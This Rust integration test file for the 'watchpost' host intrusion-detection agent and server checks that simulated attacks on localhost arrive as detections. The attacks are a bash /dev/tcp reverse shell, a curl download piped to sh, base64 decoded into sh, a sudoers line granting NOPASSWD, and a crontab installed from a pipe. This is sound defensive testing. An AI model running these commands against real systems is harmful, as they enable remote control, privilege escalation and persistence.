//! `watchpost agent` shipping to `watchpost serve`, with real attacks run on this machine:
//! a reverse shell to a listener on 127.0.0.1, a download piped into a shell, base64
//! decoded into a shell, an edit of a watched file, and a crontab installed from a pipe. Each must arrive at the
//! server as the detection of the right built-in rule, with the command line as evidence.
//! The proc connector needs root (CI runs as root); elsewhere the test says so and stops.
//! The crontab it changes is put back as it was. An agent that stops reporting is
//! reported as silent.

mod common;

use common::{BIN, Server, create_token, eventually, get_json, http};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};

struct Agent(Child);

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn is_root() -> bool {
    // SAFETY: geteuid has no preconditions.
    unsafe { libc::geteuid() == 0 }
}

fn start_agent(dir: &Path, server: &str, token: &str, source: &str) -> Agent {
    let child = Command::new(BIN)
        .current_dir(dir)
        .args(["--log-format", "plain", "agent"])
        .args(["--server", server, "--token", token])
        .args(["--watch", dir.join("watched").to_str().unwrap()])
        .args(["--state-dir", dir.join("agent-state").to_str().unwrap()])
        .args(["--exec-source", source, "--heartbeat-seconds", "1"])
        .args(["--spool", dir.join("agent-spool").to_str().unwrap()])
        .env_remove("WATCHPOST_CONFIG")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn agent");
    Agent(child)
}

fn sh(script: &str) {
    let status = Command::new("/bin/sh")
        .args(["-c", script])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .expect("run sh");
    assert!(status.success(), "{script}");
}

/// The crontab of the current user, restored when dropped.
struct SavedCrontab(Option<Vec<u8>>);

impl SavedCrontab {
    fn save() -> SavedCrontab {
        let out = Command::new("crontab").arg("-l").output().expect("crontab");
        SavedCrontab(out.status.success().then_some(out.stdout))
    }
}

impl Drop for SavedCrontab {
    fn drop(&mut self) {
        match &self.0 {
            Some(table) => {
                let mut child = Command::new("crontab")
                    .arg("-")
                    .stdin(Stdio::piped())
                    .spawn()
                    .expect("crontab -");
                child.stdin.take().unwrap().write_all(table).unwrap();
                child.wait().unwrap();
            }
            None => {
                let _ = Command::new("crontab").arg("-r").status();
            }
        }
    }
}

/// Serves `body` to every HTTP request until the test ends.
fn serve_script(body: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let mut stream = stream;
            let mut request = [0u8; 2048];
            let _ = stream.read(&mut request);
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// Waits for a reverse shell to call, then tells it to exit.
fn listen_for_shell() -> (u16, std::thread::JoinHandle<bool>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let handle = std::thread::spawn(move || match listener.accept() {
        Ok((mut stream, _)) => {
            // A reverse shell lives a while (an intruder types into it): only then exit.
            std::thread::sleep(std::time::Duration::from_millis(500));
            stream.write_all(b"exit\n").is_ok()
        }
        Err(_) => false,
    });
    (port, handle)
}

/// Sigma detections on the server whose evidence mentions `marker`, by rule title.
async fn detections_with(http: &reqwest::Client, server: &Server, marker: &str) -> Vec<String> {
    let Ok(response) = http
        .get(server.url("/api/v1/detections?limit=500"))
        .send()
        .await
    else {
        return Vec::new();
    };
    let body: Value = response.json().await.unwrap_or_default();
    body["items"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|d| d["detector"] == "sigma" && d["evidence"].to_string().contains(marker))
        .filter_map(|d| Some(d["rule_title"].as_str()?.to_string()))
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_on_this_host_arrive_at_the_server_as_detections() {
    if !is_root() {
        eprintln!("skipped: the agent's proc connector needs root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("watched")).unwrap();
    std::fs::write(dir.path().join("watched/sudoers"), "root ALL=(ALL) ALL\n").unwrap();
    let server = Server::start(dir.path());
    let token = create_token(dir.path(), "host-1", "agent");
    let _agent = start_agent(dir.path(), &server.base, &token, "proc-connector");
    let http = http();
    eventually("the agent reports in", || async {
        let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
        agents["items"][0]["last_seen"].is_string()
    })
    .await;
    let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
    assert_eq!(agents["items"][0]["kind"], "agent");
    assert_eq!(agents["items"][0]["version"], env!("CARGO_PKG_VERSION"));

    // A reverse shell to a listener on this machine.
    let (shell_port, called) = listen_for_shell();
    sh(&format!(
        "bash -c 'bash -i >& /dev/tcp/127.0.0.1/{shell_port} 0>&1' 2>/dev/null || true"
    ));
    assert!(
        called.join().unwrap(),
        "the reverse shell called the listener"
    );
    let marker = format!("/dev/tcp/127.0.0.1/{shell_port}");
    eventually("the reverse shell is detected", || async {
        detections_with(&http, &server, &marker)
            .await
            .iter()
            .any(|t| t.contains("/dev/tcp"))
    })
    .await;
    // The detection shows who started the shell: the test process is among its ancestors.
    let body: Value = get_json(&http, server.url("/api/v1/detections?limit=500")).await;
    let shell = body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["evidence"].to_string().contains(&marker))
        .unwrap();
    let ancestry = shell["evidence"]["ancestry"].as_array().expect("ancestry");
    assert!(ancestry.len() >= 3, "{ancestry:?}");
    assert!(
        ancestry.iter().any(|p| p["pid"] == std::process::id()),
        "the test process is an ancestor: {ancestry:?}"
    );

    // A script downloaded and piped straight into a shell.
    let script_port = serve_script("echo wp-downloaded >/dev/null\n");
    sh(&format!("curl -s http://127.0.0.1:{script_port}/x | sh"));
    let marker = format!("127.0.0.1:{script_port}/x");
    eventually("the download piped to a shell is detected", || async {
        detections_with(&http, &server, &marker)
            .await
            .iter()
            .any(|t| t.contains("Download Piped Straight Into a Shell"))
    })
    .await;

    // A command hidden in base64, decoded into a shell.
    sh("echo ZWNobyB3cC1iYXNlNjQgPi9kZXYvbnVsbAo= | base64 -d | sh");
    eventually("the base64-decoded execution is detected", || async {
        detections_with(&http, &server, "ZWNobyB3cC1iYXNlNjQgPi9kZXYvbnVsbAo=")
            .await
            .iter()
            .any(|t| t.contains("Base64-Decoded"))
    })
    .await;

    // An edit of a watched file: the change arrives with the hashes before and after.
    std::fs::write(
        dir.path().join("watched/sudoers"),
        "root ALL=(ALL) ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n",
    )
    .unwrap();
    eventually("the edit of the watched file is detected", || async {
        let body: Value = get_json(&http, server.url("/api/v1/detections?limit=500")).await;
        body["items"].as_array().into_iter().flatten().any(|d| {
            d["detector"] == "fim"
                && d["rule_title"] == "Sudo rules changed"
                && d["evidence"]["before"]["sha256"] != d["evidence"]["after"]["sha256"]
                && d["evidence"]["after"]["size"] == 51
        })
    })
    .await;

    // A job added to the crontab through a pipe; the crontab is restored afterwards.
    if Command::new("crontab").arg("-l").output().is_err() {
        assert!(
            std::env::var("CI").is_err(),
            "crontab (Debian: cron) is missing under CI"
        );
        eprintln!("crontab case skipped: no crontab program (Debian package cron)");
        return;
    }
    let _saved = SavedCrontab::save();
    sh("(crontab -l 2>/dev/null; echo '# wp-agent-test 0 0 1 1 * true') | crontab -");
    eventually("the crontab installed from a pipe is detected", || async {
        detections_with(&http, &server, "crontab -")
            .await
            .iter()
            .any(|t| t.contains("Crontab Installed"))
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_agent_that_stops_reporting_is_reported_silent() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    std::fs::write(&config, "[monitoring]\nagent_silent_after_seconds = 5\n").unwrap();
    let server = Server::start_with(dir.path(), &["--config", config.to_str().unwrap()]);
    let token = create_token(dir.path(), "quiet-1", "agent");
    let agent = start_agent(dir.path(), &server.base, &token, "proc-poll");
    let http = http();
    eventually("the agent reports in", || async {
        let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
        agents["items"][0]["last_seen"].is_string()
    })
    .await;
    let silent = || async {
        let body: Value = get_json(&http, server.url("/api/v1/detections?limit=100")).await;
        body["items"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|d| d["rule_id"] == "watchpost.agent_silent" && d["host"] == "quiet-1")
            .count()
    };
    // While it reports (a heartbeat a second), it is not silent.
    tokio::time::sleep(std::time::Duration::from_secs(7)).await;
    assert_eq!(silent().await, 0, "a reporting agent is not silent");
    // Stopped with SIGTERM, its last words say so.
    // SAFETY: kill has no memory preconditions; the pid is our child's.
    unsafe { libc::kill(agent.0.id() as i32, libc::SIGTERM) };
    eventually("the agent's last words are a detection", || async {
        let body: Value = get_json(&http, server.url("/api/v1/detections?limit=100")).await;
        body["items"].as_array().into_iter().flatten().any(|d| {
            d["rule_id"] == "watchpost.agent_stopped" && d["evidence"]["signal"] == "SIGTERM"
        })
    })
    .await;
    drop(agent);
    eventually("the stopped agent is reported silent", || async {
        silent().await == 1
    })
    .await;
    // One detection per silence, not one per check.
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(silent().await, 1);
    let silence_status = || async {
        let body: Value = get_json(
            &http,
            server.url("/api/v1/alerts?rule_id=watchpost.agent_silent&limit=10"),
        )
        .await;
        body["items"][0]["status"]
            .as_str()
            .unwrap_or("")
            .to_string()
    };
    assert_eq!(silence_status().await, "firing");
    // Back again: the silence is over, and its alert is resolved.
    let _back = start_agent(dir.path(), &server.base, &token, "proc-poll");
    eventually(
        "the silence alert is resolved when the agent reports",
        || async { silence_status().await == "resolved" },
    )
    .await;
}

#[test]
fn metrics_are_sampled_and_a_threshold_held_raises_one_detection() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("watchpost.toml");
    // Memory in use is always above 1 %: the threshold is crossed at the first sample
    // and stays crossed.
    std::fs::write(
        &config,
        "[monitoring]\nmonitor_interval = 1\nmemory_threshold = 1.0\n",
    )
    .unwrap();
    let output = dir.path().join("agent.jsonl");
    let child = Command::new(BIN)
        .current_dir(dir.path())
        .args([
            "--log-format",
            "plain",
            "--config",
            config.to_str().unwrap(),
            "agent",
        ])
        .args([
            "--output",
            output.to_str().unwrap(),
            "--exec-source",
            "proc-poll",
        ])
        .args(["--no-file-integrity"])
        .env_remove("WATCHPOST_CONFIG")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn agent");
    let agent = Agent(child);
    std::thread::sleep(std::time::Duration::from_millis(3500));
    drop(agent);
    let records: Vec<Value> = std::fs::read_to_string(&output)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let metrics: Vec<&Value> = records
        .iter()
        .filter_map(|r| r.get("event"))
        .filter(|e| e["event"]["kind"] == "metric")
        .collect();
    assert!(metrics.len() >= 2, "a sample a second: {}", metrics.len());
    let sample = &metrics[0]["raw"]["host_metrics"];
    assert!(sample["memory_percent"].as_f64().unwrap() > 1.0, "{sample}");
    assert!(sample["disks"].as_array().is_some_and(|d| !d.is_empty()));
    assert!(
        sample["cpu_per_core"]
            .as_array()
            .is_some_and(|c| !c.is_empty())
    );
    let raised: Vec<&Value> = records
        .iter()
        .filter_map(|r| r.get("detection"))
        .filter(|d| d["rule_id"] == "host.memory_threshold")
        .collect();
    assert_eq!(
        raised.len(),
        1,
        "one detection while the value stays above the limit"
    );
    assert_eq!(raised[0]["evidence"]["limit"], 1.0);
}

#[test]
fn new_listeners_and_blocklisted_destinations_are_reported() {
    let dir = tempfile::tempdir().unwrap();
    let blocklist = dir.path().join("blocklist.txt");
    std::fs::write(&blocklist, "# test networks\n127.0.0.3/32\n").unwrap();
    let output = dir.path().join("agent.jsonl");
    let child = Command::new(BIN)
        .current_dir(dir.path())
        .args(["--log-format", "plain", "agent"])
        .args([
            "--output",
            output.to_str().unwrap(),
            "--exec-source",
            "proc-poll",
        ])
        .args(["--no-file-integrity", "--learning-seconds", "0"])
        .args(["--network-interval-seconds", "1"])
        .args(["--blocklist", blocklist.to_str().unwrap()])
        .args(["--state-dir", dir.path().join("state").to_str().unwrap()])
        .env_remove("WATCHPOST_CONFIG")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn agent");
    let agent = Agent(child);
    std::thread::sleep(std::time::Duration::from_millis(1500));
    // A port that starts listening, and a connection to a blocklisted address.
    let listener = TcpListener::bind("127.0.0.3:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let client = std::net::TcpStream::connect(("127.0.0.3", port)).unwrap();
    let (_server_side, _) = listener.accept().unwrap();
    std::thread::sleep(std::time::Duration::from_millis(2500));
    drop(agent);
    drop(client);
    let detections: Vec<Value> = std::fs::read_to_string(&output)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter_map(|r| r.get("detection").cloned())
        .collect();
    let listening = format!("127.0.0.3:{port}");
    assert!(
        detections
            .iter()
            .any(|d| d["rule_id"] == "watchpost.network.new_listener"
                && d["evidence"]["local"] == listening.as_str()
                && d["evidence"]["pid"] == std::process::id()),
        "{detections:#?}"
    );
    assert!(
        detections.iter().any(
            |d| d["rule_id"] == "watchpost.network.blocklisted_destination"
                && d["evidence"]["remote"] == listening.as_str()
        ),
        "{detections:#?}"
    );
}

/// With `serve` recording its host's execs as root and an agent beside it (the README's
/// setup), each exec is stored once: the server leaves the execs to the agent while the
/// agent reports from this machine.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_and_an_agent_on_one_host_store_each_exec_once() {
    if !is_root() {
        eprintln!("skipped: recording execs needs root");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_recording_execs(dir.path());
    let token = create_token(dir.path(), "same-host", "agent");
    let _agent = start_agent(dir.path(), &server.base, &token, "auto");
    let http = http();
    eventually("the agent reports in", || async {
        let agents: Value = get_json(&http, server.url("/api/v1/agents")).await;
        agents["items"][0]["last_seen"].is_string()
    })
    .await;
    // The server notices the agent within its recheck (5 s).
    tokio::time::sleep(std::time::Duration::from_secs(6)).await;
    let marker = format!("wp-once-{}", std::process::id());
    sh(&format!("/bin/true {marker}"));
    let copies = || async {
        let page: Value = get_json(&http, server.url("/api/v1/events?limit=1000")).await;
        page["items"]
            .as_array()
            .into_iter()
            .flatten()
            .filter(|e| {
                e["event"]["action"] == "exec"
                    && e["process"]["name"] == "true"
                    && e["process"]["args"].to_string().contains(&marker)
            })
            .map(|e| e["event"]["module"].as_str().unwrap_or("").to_string())
            .collect::<Vec<String>>()
    };
    eventually("the exec is stored", || async {
        !copies().await.is_empty()
    })
    .await;
    tokio::time::sleep(std::time::Duration::from_secs(3)).await;
    assert_eq!(copies().await, ["agent"], "one host, one record");
}
